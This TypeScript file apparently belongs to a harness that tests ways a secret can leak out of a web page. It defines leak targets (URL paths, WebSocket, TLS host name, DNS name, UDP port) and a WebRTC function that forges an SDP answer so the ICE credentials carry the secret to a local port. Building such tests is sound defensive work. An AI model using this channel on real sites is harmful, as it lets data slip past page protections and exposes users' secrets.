/** What a way to get a secret out of the page looks like. */

/** Where a vector is to take its secret. Everything carries it in the clear. */
export interface Target {
  readonly secret: string
  /** An address with the secret in its path, without a suffix: `${url}.js` is answered as a script, and so on. */
  readonly url: string
  /** The same for a WebSocket. */
  readonly socketUrl: string
  /** `https://<secret>.localhost:<port>`: a TLS greeting names the host in the clear. */
  readonly secureUrl: string
  /** A host name with the secret in it, for whoever looks up names. */
  readonly host: string
  readonly udpPort: number
}

/** Script of an attacker; it may throw, reject, or do nothing at all. */
export type Vector = (to: Target) => unknown

/** Sends a connectivity check to a port: its user name is the secret, in the clear. */
export async function peer(Peer: typeof RTCPeerConnection, secret: string, port: number) {
  const connection = new Peer()
  connection.createDataChannel('x')
  const offer = await connection.createOffer()
  await connection.setLocalDescription(offer)
  const answer = (offer.sdp ?? '')
    .replace(/a=ice-ufrag:.*/g, `a=ice-ufrag:${secret}`)
    .replace(/a=ice-pwd:.*/g, `a=ice-pwd:${secret}`)
    .replace('a=setup:actpass', 'a=setup:passive')
    .replace(/a=candidate.*\r\n/g, '')
    .concat(`a=candidate:1 1 udp 2113937151 127.0.0.1 ${port} typ host\r\na=end-of-candidates\r\n`)
  await connection.setRemoteDescription({ type: 'answer', sdp: answer })
}
